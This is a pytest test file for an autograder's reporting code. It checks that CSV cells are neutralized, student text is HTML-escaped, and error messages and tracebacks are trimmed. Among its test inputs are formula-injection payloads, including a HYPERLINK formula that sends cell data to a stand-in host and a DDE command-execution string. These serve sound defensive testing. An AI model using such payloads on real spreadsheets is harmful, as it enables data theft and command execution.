"""The reports' pure parts, without grading: CSV cells, message cutting, tracebacks, HTML escaping.

End-to-end cases (a hostile exception name through the whole grader) are in test_adversarial.py;
the sample class's summary.html in a real browser is in test_browser.py.
"""

from __future__ import annotations

import csv
import html
import io
import itertools
import re

import pytest

from autograder import messages, report

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",  # a spreadsheet may trim leading spaces
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_in_text_is_neutralized(text):
    assert report.csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["AssertionError: -1 is wrong", "ok", "", "test_sgd_step_value", "a = b"])
def test_honest_text_is_left_alone(value):
    assert report.csv_cell(value) == value


@pytest.mark.parametrize(("value", "written"), [(-0.5, -0.5), (-2.0, -2), (3, 3), (0.1 + 0.2, 0.3), (True, True)])
def test_numbers_stay_numbers(value, written):
    assert report.csv_cell(value) == written and type(report.csv_cell(value)) is type(written)


def test_text_is_quoted_so_a_separator_never_starts_a_cell(tmp_path):
    """A spreadsheet in a locale whose separator is ';' would split an unquoted a;=1+1 into a formula cell."""
    report.write_all([_row(student="ada", message="a;=1+1", reason="x\t=1+1")], tmp_path)
    grades = (tmp_path / "grades.csv").read_text().splitlines()
    assert grades[1] == '"ada","02_momentum",-0.5,2,"tampered","x\t=1+1"', "text quoted, numbers bare"
    assert '"a;=1+1"' in (tmp_path / "tests.csv").read_text()


def test_nul_characters_do_not_reach_the_file():
    assert report.csv_cell("a\x00b") == "a\ufffdb"


def _row(student="=cmd|' /C calc'!A0", message=FORMULAS[0], reason="@reason", status="tampered", score=-0.5):
    test = {"test": "test_x", "hidden": False, "points": score, "max_points": 2.0, "passed": score >= 2}
    test.update(message=message, traceback="Traceback (most recent call last):\n    x = 1")
    return {
        "student_id": student,
        "chapter": "02_momentum",
        "score": score,
        "max_score": 2.0,
        "status": status,
        "reason": reason,
        "tests": [test],
    }


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_cell_of_either_csv_starts_a_formula(tmp_path):
    rows = [_row(), _row(student="+ben", message="-1", reason="\t=1")]
    report.write_all(rows, tmp_path)
    for name in ("grades.csv", "tests.csv"):
        for cell in _cells((tmp_path / name).read_text()):
            number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
            assert number or not cell.lstrip().startswith(report.FORMULA_START), (name, cell)
            assert not cell.startswith(report.CONTROL_START), (name, cell)
    grades = list(csv.DictReader(io.StringIO((tmp_path / "grades.csv").read_text())))
    assert grades[0]["score"] == "-0.5", "a score is a number, not text"
    assert {g["student_id"] for g in grades} == {"'+ben", "'=cmd|' /C calc'!A0"}


def test_tests_csv_has_what_a_spreadsheet_needs(tmp_path):
    report.write_all([_row(student="ada", status="ok", reason="")], tmp_path)
    (row,) = csv.DictReader(io.StringIO((tmp_path / "tests.csv").read_text()))
    assert {k: row[k] for k in ("student_id", "test", "hidden", "points", "max_points", "passed", "status")} == {
        "student_id": "ada",
        "test": "test_x",
        "hidden": "False",
        "points": "-0.5",
        "max_points": "2",
        "passed": "False",
        "status": "ok",
    }


# ---------------------------------------------------------------- HTML


def _marked(field: str) -> str:
    return f'<b id="{field}">{field}</b>'


def _assert_escaped(page: str, fields: list[str]) -> None:
    for field in fields:
        assert _marked(field) not in page, f"the {field} reaches the page as markup"
        assert html.escape(_marked(field)) in page, f"the {field} is not shown as text"


def test_student_text_is_escaped_in_every_place_of_the_feedback_page():
    row = _row(student=_marked("student"), message=_marked("message"), reason=_marked("reason"))
    row["tests"][0]["traceback"] = "Traceback (most recent call last):\n    " + _marked("traceback")
    _assert_escaped(report.feedback_html(row), ["student", "message", "reason", "traceback"])


def test_student_text_is_escaped_in_every_place_of_the_summary():
    rows = [
        _row(student=_marked("student"), reason=_marked("reason")),
        _row(student="ok-one", status="ok", reason="", message=_marked("message")),
    ]
    _assert_escaped(report.summary_html(rows), ["student", "message", "reason"])


def test_the_summary_shows_each_chapter_with_a_histogram_and_the_statuses():
    rows = [
        {**_row(student=s, status="ok", reason="", score=p), "chapter": c}
        for c in ("01_a", "02_b")
        for s, p in (("ada", 2.0), ("ben", 0.0), ("cy", 0.0))
    ]
    rows.append({**_row(student="eli", status="missing", reason="no notebook", score=0.0), "chapter": "02_b"})
    page = report.summary_html(rows)
    assert page.count("<svg") == 2 and page.count("<section") == 2
    assert "<script" not in page and not re.search(r"(src|href)=\S*//", page), "self-contained: nothing loaded"
    assert 'aria-label="students per score range, 0: 2, 2: 1"' in page
    assert 'aria-label="students per score range, 0: 3, 2: 1"' in page
    assert "2 of 3" in page  # test_x failed by the two students with 0 of the three graded
    assert "missing" in page and "no notebook" in page


@pytest.mark.parametrize(("max_score", "bins"), [(2, [(0, 0), (1, 1), (2, 2)]), (16, None), (43, None), (0.5, None)])
def test_histogram_ranges_cover_every_score_once(max_score, bins):
    got = report._bins(max_score)
    if bins:
        assert got == bins
    assert len(got) <= report.BINS and got[0][0] == 0 and got[-1][1] == int(max_score)
    assert all(hi + 1 == lo for (_, hi), (lo, _) in itertools.pairwise(got))


# ---------------------------------------------------------------- messages


def test_a_short_message_is_left_whole():
    assert messages.cut("AssertionError: wrong") == "AssertionError: wrong"


def test_a_long_message_is_cut_at_a_line_and_says_so():
    lines = [f" [{i}]: 3.310000000000004 (ACTUAL), 3.01 (DESIRED)" for i in range(30)]
    text = "AssertionError: off\n" + "\n".join(lines)
    got = messages.cut(text)
    assert len(got) <= messages.LIMIT
    body, note = got.rsplit("\n", 1)
    assert note == f"[… cut: the message has {len(text):,} characters]"
    assert text.startswith(body + "\n"), "cut at the end of a whole line"


def test_a_long_line_is_cut_between_words_never_inside_a_number():
    text = "values " + " ".join(f"{i}.123456789" for i in range(200))
    got = messages.cut(text)
    assert len(got) <= messages.LIMIT and "[… cut" in got
    head = got.split(" [… cut")[0]
    assert text.startswith(head + " "), "cut where a space was"
    word = "x" * 300 + "1234567890" * 40 + ".5"
    head = messages.cut(word).split(" [… cut")[0]
    assert head == "x" * 300, "one long word is cut before the number it runs into"


def test_the_traceback_names_the_test_and_leaves_the_message_out():
    cells = [
        {"kind": "instructor", "name": ""},
        {"kind": "answer", "name": "sgd_step"},
        {"kind": "extra", "name": ""},
        {"kind": "test", "name": "test_sgd_step_value"},
    ]
    raw = (
        "Traceback (most recent call last):\n"
        '  File "<test cell 3>", line 4, in <module>\n'
        "    got = sgd_step(theta, g, 0.1)\n"
        '  File "<answer cell 1>", line 2, in sgd_step\n'
        "    return helper(theta)\n"
        '  File "<extra cell 2>", line 1, in helper\n'
        "    secret = 1\n"
        "AssertionError: the whole message\nsecond line of it"
    )
    got = messages.traceback(raw, cells, secret={"secret = 1"})
    assert got.splitlines() == [
        "Traceback (most recent call last):",
        "  test test_sgd_step_value, line 4",
        "    got = sgd_step(theta, g, 0.1)",
        "  your answer cell for sgd_step, line 2, in sgd_step",
        "    return helper(theta)",
        "  a cell you added, line 1, in helper",
        "    …",
    ]
    assert "cell 3" not in got and "whole message" not in got


def test_a_function_still_stubbed_is_named_as_not_implemented():
    used = messages.functions_used(
        "# uses sgd_step in a comment only\nW = sparse_init(4, 2, 1, rng)", ["sgd_step", "sparse_init"]
    )
    assert used == ["sparse_init"]
    said = "AssertionError: sparse_init(40, 10, k=0, rng) raised NotImplementedError; raise ValueError"
    assert messages.not_implemented(used, ["sparse_init"], {}, said) == ["sparse_init"]
    edited = {"sparse_init": "def sparse_init(a, b, k, rng):\n    raise NotImplementedError"}
    assert messages.not_implemented(used, [], edited, said) == ["sparse_init"]
    assert messages.not_implemented(used, [], {"sparse_init": "def sparse_init(): return 1"}, said) == []
    assert messages.not_implemented(used, ["sparse_init"], {}, "AssertionError: wrong values") == []
    assert messages.not_implemented_message(["sparse_init"]).startswith("sparse_init is not implemented yet")
    assert messages.not_implemented_message(["a", "b", "c"]).startswith("a, b and c are not implemented yet")


def _parse_in_threads(parse, threads: int = 4, rounds: int = 40) -> list[str]:
    """Run `parse` on distinct sources in `threads` threads at once, with the GIL handed over in the
    middle of allocations (a gc callback that sleeps), as the grader's threads do at random; the
    SystemErrors it raised."""
    import gc
    import threading
    import time

    errors = []

    def work(k):
        for i in range(rounds):
            source = "\n".join(f"def f{k}_{i}_{j}(x):\n    return [(x + {j}) * y for y in range(3)]" for j in range(40))
            try:
                parse(source)
            except SystemError as exc:
                errors.append(str(exc))
                return

    def switch(phase, info):
        if phase == "start":
            time.sleep(0.0001)

    threshold = gc.get_threshold()
    gc.callbacks.append(switch)
    gc.set_threshold(50, 1, 1)
    try:
        workers = [threading.Thread(target=work, args=(k,)) for k in range(threads)]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join()
    finally:
        gc.callbacks.remove(switch)
        gc.set_threshold(*threshold)
    return errors


def test_test_code_is_parsed_one_thread_at_a_time():
    """CPython 3.11's ast.parse in two threads at once can fail with SystemError (python/cpython#106905):
    the grader's threads must not, or a student's notebook is graded 'error'."""
    import ast
    import sys

    raw = _parse_in_threads(ast.parse)
    if sys.version_info < (3, 12):
        assert raw, "the harness no longer makes ast.parse race: it cannot show the lock matters here"
    assert _parse_in_threads(lambda source: messages.functions_used(source, ["f"])) == []


def test_an_answer_is_untouched_only_when_it_is_the_stub():
    stubs = {"f": "def f(x):\n    raise NotImplementedError\n", "g": "def g():\n    pass"}
    assert messages.untouched(stubs, {"f": "def f(x):   \n    raise NotImplementedError"}) == ["f", "g"]
    assert messages.untouched(stubs, {"f": "def f(x):\n    return x", "g": "def g():\n    pass"}) == ["g"]


def test_a_message_names_cells_as_the_student_knows_them():
    cells = [{"kind": "instructor", "name": ""}, {"kind": "answer", "name": "sgd_step"}]
    got = messages.failure("SyntaxError", "expected ':' (<answer cell 1>, line 1)", cells=cells)
    assert got == "SyntaxError: expected ':' (your answer cell for sgd_step, line 1)"


# ---------------------------------------------------------------- misconceptions

LECUN_FAN_OUT = (
    "AssertionError: with fan_in=120, fan_out=40 the entries' variance is {v}, expected 1/fan_in = 0.00833\n"
    "second line: {v}"
)


def test_a_misconception_line_is_the_same_whatever_the_numbers():
    one = messages.misconception(LECUN_FAN_OUT.format(v="0.0249"))
    two = messages.misconception(LECUN_FAN_OUT.format(v="0.02517"))
    assert one == two == "with fan_in=#, fan_out=# the entries' variance is #, expected #/fan_in = #"
    assert messages.misconception("AssertionError: \nNot equal to tolerance rtol=1e-07, atol=0\nθ is off") == "θ is off"
    assert messages.misconception("return float64, not float32; log10 of -1e-3") == (
        "return float64, not float32; log10 of #"
    )
    assert messages.misconception("AssertionError: the shape is wrong") != messages.misconception("the sign is wrong")


def test_a_headline_is_the_first_line_as_the_test_wrote_it():
    # The course's tests name the slip on line 1 and put the student's numbers on line 2 (test_mistakes checks it).
    said = (
        "AssertionError: \nNot equal to tolerance rtol=1e-09, atol=0\nthe entries' variance is not 1/fan_in "
        "on fresh sizes\nwith fan_in=320, fan_out=125 it is {v}, expected 1/fan_in = 0.00313"
    )
    one, two = (messages.headline(said.format(v=v)) for v in ("0.0249", "9.78e-06"))
    assert one == two == "the entries' variance is not 1/fan_in on fresh sizes"
    assert messages.misconception(said.format(v="1")) == "the entries' variance is not #/fan_in on fresh sizes"
    assert messages.headline("") == "" and messages.headline("AssertionError: ") == ""


def test_two_students_with_the_same_mistake_and_different_numbers_are_one_group_of_two():
    rows = [
        {**_row(student=s, status="ok", reason="", score=0.0, message=LECUN_FAN_OUT.format(v=v)), "chapter": "04_init"}
        for s, v in (("ada", "0.0249"), ("ben", "0.02517"))
    ]
    rows.append(
        {**_row(student="cy", status="ok", reason="", score=0.0, message="the sign is wrong"), "chapter": "04_init"}
    )
    rows.append({**_row(student="dee", status="ok", reason="", score=2.0, message=""), "chapter": "04_init"})
    line = messages.misconception(LECUN_FAN_OUT.format(v="1"))
    names = {"04_init": {("test_x", line): ["lecun_fan_out"]}}
    groups = report.misconception_groups([r for r in rows if r["chapter"] == "04_init"], names["04_init"])
    assert [(g["names"], g["students"]) for g in groups] == [(["lecun_fan_out"], 2), ([], 1)]
    page = report.summary_html(rows, names)
    named = re.search(r"<tr><td><code>lecun_fan_out</code></td><td><code>test_x</code></td><td>(\d+)</td>", page)
    assert named and named.group(1) == "2", "the two students' failures are not one group of two"
    assert "<td>(unnamed)</td><td><code>test_x</code></td><td>1</td>" in page


def test_a_function_not_written_yet_is_no_misconception():
    rows = [
        _row(
            student="ada", status="ok", reason="", score=0.0, message="momentum_step is not implemented yet: write it"
        ),
    ]
    assert report.misconception_groups(rows) == []
    assert "No graded notebook failed a test with a wrong answer." in report.summary_html(rows)
